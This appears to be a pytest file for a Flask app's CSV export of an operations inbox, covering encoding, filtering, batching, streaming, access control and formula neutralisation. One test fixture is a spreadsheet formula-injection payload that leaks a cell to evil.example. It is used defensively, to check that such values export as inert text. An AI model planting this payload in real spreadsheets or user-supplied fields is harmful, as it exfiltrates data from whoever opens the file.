"""The inbox as a CSV download (/ops/inbox.csv): the rows of the inbox's filters, all pages,
newest first, in a file Dutch Excel opens as it is; read back here with Python's csv module
in that dialect (``;``). A cell Excel would run as a formula is written as text.

Every test that downloads runs on SQLite and on PostgreSQL. Requests are seeded straight into
the database (:func:`tests.support.inbox.seed`)."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import event
from werkzeug.test import TestResponse

from ociflex.ops import export
from ociflex.ops.inbox_query import ListedRequest
from tests.support.html import Html
from tests.support.inbox import args_of, inbox, seed, seed_many

HEADER = [
    "Reference",
    "Status",
    "Customer ID",
    "Customer",
    "Requester",
    "E-mail",
    "Vehicle code",
    "Vehicle",
    "First day",
    "Last day",
    "Days",
    "Day rate",
    "Currency",
    "Total",
    "Cost centre",
    "PO number",
    "ERP PO number",
    "Location",
    "Created at (Europe/Amsterdam)",
]
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'


def download(client: FlaskClient, query: dict[str, str] | None = None) -> TestResponse:
    response = client.get("/ops/inbox.csv", query_string=query or {})
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def read_back(response: TestResponse) -> list[dict[str, str]]:
    """The rows of a download as Dutch Excel's dialect reads them, by the header's names."""
    text = response.get_data().decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    header, *rows = list(reader)
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


def references(response: TestResponse) -> list[str]:
    return [row["Reference"] for row in read_back(response)]


def reference(request_id: int) -> str:
    return f"FF-{request_id:06d}"


# --- The file -----------------------------------------------------------------------------------


def test_the_file_is_utf_8_with_a_byte_order_mark_semicolons_and_crlf_lines(
    app: Flask, ops_client: FlaskClient
) -> None:
    seed(app, {"requester_name": "Zoë Öztürk", "location": 'Utrecht; "Papendorp"\nhal 2'})
    response = download(ops_client)

    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf" + b"Reference;Status;Customer ID;")
    assert body.count(b"\r\n") == 2
    assert body.endswith(b"\r\n")
    assert "Zoë Öztürk".encode() in body
    assert response.mimetype == "text/csv"
    assert response.mimetype_params == {"charset": "utf-8"}
    [row] = read_back(response)
    assert row["Requester"] == "Zoë Öztürk"
    assert row["Location"] == 'Utrecht; "Papendorp"\nhal 2'


def test_the_file_is_an_attachment_named_with_the_day_it_was_made(
    ops_client: FlaskClient,
) -> None:
    response = download(ops_client)
    day = datetime.now(export.LOCAL_TIME).date().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="ociflex-requests-{day}.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    assert read_back(response) == []


def test_a_row_holds_the_request_with_iso_days_and_amounts_for_dutch_excel(
    app: Flask, ops_client: FlaskClient
) -> None:
    [request_id] = seed(
        app,
        {
            "status": "confirmed",
            "requester_name": "Cor Claes",
            "requester_email": "cor@demo.example",
            "vehicle_code": "VAN",
            "vehicle_name": "Bestelbus",
            "day_rate": Decimal("411.50"),
            "start_date": date(2026, 12, 7),
            "end_date": date(2026, 12, 9),
            "days": 3,
            "cost_centre": "4100",
            "po_number": "PO-7",
            "erp_po_number": "4500012345",
            "location": "Utrecht Papendorp",
            # 08:00 UTC is 09:00 in Amsterdam in November.
            "created_at": datetime(2026, 11, 2, 8, 0, 5, tzinfo=UTC),
        },
    )
    [row] = read_back(download(ops_client))

    assert row == {
        "Reference": reference(request_id),
        "Status": "confirmed",
        "Customer ID": "demo",
        "Customer": "Demo Inkoop B.V.",
        "Requester": "Cor Claes",
        "E-mail": "cor@demo.example",
        "Vehicle code": "VAN",
        "Vehicle": "Bestelbus",
        "First day": "2026-12-07",
        "Last day": "2026-12-09",
        "Days": "3",
        "Day rate": "411,50",
        "Currency": "EUR",
        "Total": "1234,50",
        "Cost centre": "4100",
        "PO number": "PO-7",
        "ERP PO number": "4500012345",
        "Location": "Utrecht Papendorp",
        "Created at (Europe/Amsterdam)": "2026-11-02 09:00:05",
    }
    amount = Decimal(row["Total"].replace(",", "."))
    assert amount == Decimal(row["Day rate"].replace(",", ".")) * int(row["Days"])


def test_a_customer_no_longer_served_is_named_by_its_id(
    app: Flask, ops_client: FlaskClient
) -> None:
    seed(app, {"customer_id": "gone"})
    [row] = read_back(download(ops_client))
    assert (row["Customer ID"], row["Customer"]) == ("gone", "gone")


# --- Which rows ---------------------------------------------------------------------------------


def test_the_file_holds_every_page_of_the_filter_newest_first(
    app: Flask, ops_client: FlaskClient
) -> None:
    wanted = seed_many(app, 60, customer_id="acme", status="confirmed")
    seed(
        app,
        {"customer_id": "acme", "status": "new"},
        {"customer_id": "demo", "status": "confirmed"},
    )
    wanted += seed_many(app, 3, customer_id="acme", status="confirmed")

    query = {"customer": "acme", "status": "confirmed"}
    assert len(inbox(ops_client, query).row_ids) == 50
    exported = references(download(ops_client, query))
    assert exported == [reference(n) for n in sorted(wanted, reverse=True)]


def test_a_search_exports_what_the_inbox_finds(app: Flask, ops_client: FlaskClient) -> None:
    found = seed(
        app,
        {"requester_name": "Piet Pieters"},
        {"requester_name": "Anna de Vries", "requester_email": "anna@demo.example"},
        {"requester_name": "Pieter Post", "status": "confirmed"},
    )
    query = {"q": "piet"}
    listed = inbox(ops_client, query).row_ids
    assert listed == [found[2], found[0]]
    assert references(download(ops_client, query)) == [reference(n) for n in listed]


def test_the_rows_are_read_in_batches_and_none_is_left_out_or_repeated(
    app: Flask, ops_client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    ids = seed_many(app, 20)
    monkeypatch.setattr(export, "BATCH_SIZE", 7)
    selects: list[str] = []

    def count(_conn, _cursor, statement: str, *_args: object) -> None:
        if "FROM rental_requests" in statement:
            selects.append(statement)

    engine = app.extensions["ociflex.engine"]
    event.listen(engine, "before_cursor_execute", count)
    try:
        exported = references(download(ops_client, {"q": "person"}))
    finally:
        event.remove(engine, "before_cursor_execute", count)

    assert exported == [reference(n) for n in sorted(ids, reverse=True)]
    assert len(selects) == 3  # 7 + 7 + 6 rows


def test_the_page_of_the_inbox_being_shown_does_not_limit_the_file(
    app: Flask, ops_client: FlaskClient
) -> None:
    ids = seed_many(app, 3)
    exported = references(download(ops_client, {"before": str(ids[1])}))
    assert exported == [reference(n) for n in sorted(ids, reverse=True)]


@pytest.mark.parametrize(
    "query",
    [{"status": "lost"}, {"from": "2026-13-01"}, {"from": "2026-12-09", "to": "2026-12-01"}],
)
def test_an_invalid_filter_makes_no_file_but_says_what_to_do(
    app: Flask, ops_client: FlaskClient, query: dict[str, str]
) -> None:
    seed_many(app, 2)
    response = ops_client.get("/ops/inbox.csv", query_string=query)
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert "Content-Disposition" not in response.headers
    assert len(Html(response).alerts) == 1


# --- The inbox's link ---------------------------------------------------------------------------


def test_the_inbox_links_to_the_file_of_its_filters_without_its_page(
    app: Flask, ops_client: FlaskClient
) -> None:
    ids = seed_many(app, 3, customer_id="acme")
    seed(app, {"requester_name": "Person 9", "customer_id": "demo"})
    query = {"customer": "acme", "q": "person", "po": "awaiting", "before": str(ids[2])}
    href = inbox(ops_client, query).href("export-csv")
    assert href.startswith("/ops/inbox.csv?")
    assert args_of(href) == {"customer": "acme", "q": "person", "po": "awaiting"}
    exported = references(download(ops_client, args_of(href)))
    assert exported == [reference(n) for n in sorted(ids, reverse=True)]


# --- Formulas -----------------------------------------------------------------------------------


def test_a_requester_named_as_a_formula_is_exported_as_text(
    app: Flask, ops_client: FlaskClient
) -> None:
    seed(app, {"requester_name": HYPERLINK, "cost_centre": "+31 30 123", "location": "@SUM(A1)"})
    [row] = read_back(download(ops_client))
    assert row["Requester"] == "'" + HYPERLINK
    assert row["Cost centre"] == "'+31 30 123"
    assert row["Location"] == "'@SUM(A1)"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+31 30 123 4567", "'+31 30 123 4567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Jan = Piet", "Jan = Piet"),
        ("FF-000123", "FF-000123"),
        ("", ""),
    ],
)
def test_a_cell_excel_would_run_as_a_formula_starts_with_a_quote(value: str, cell: str) -> None:
    assert export.neutralised(value) == cell


# --- Streaming ----------------------------------------------------------------------------------


def test_the_header_is_written_before_any_request_is_read() -> None:
    read: list[int] = []

    def rows() -> Iterator[ListedRequest]:
        read.append(1)
        yield from ()

    chunks = export.csv_chunks(rows(), str)
    assert next(chunks).startswith(b"\xef\xbb\xbfReference;")
    assert read == []
    assert list(chunks) == []
    assert read == [1]


def test_the_download_is_streamed(app: Flask, ops_client: FlaskClient) -> None:
    seed_many(app, 2)
    response = ops_client.get("/ops/inbox.csv", buffered=False)
    assert response.is_streamed
    assert len(read_back(response)) == 2


# --- Access -------------------------------------------------------------------------------------


def test_the_file_is_for_logged_in_operators_only(app: Flask, client: FlaskClient) -> None:
    seed(app, {"requester_name": "Piet Pieters"})
    response = client.get("/ops/inbox.csv?status=new")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/ops/login?")
    assert args_of(response.headers["Location"])["next"] == "/ops/inbox.csv?status=new"
    assert b"Piet" not in response.get_data()
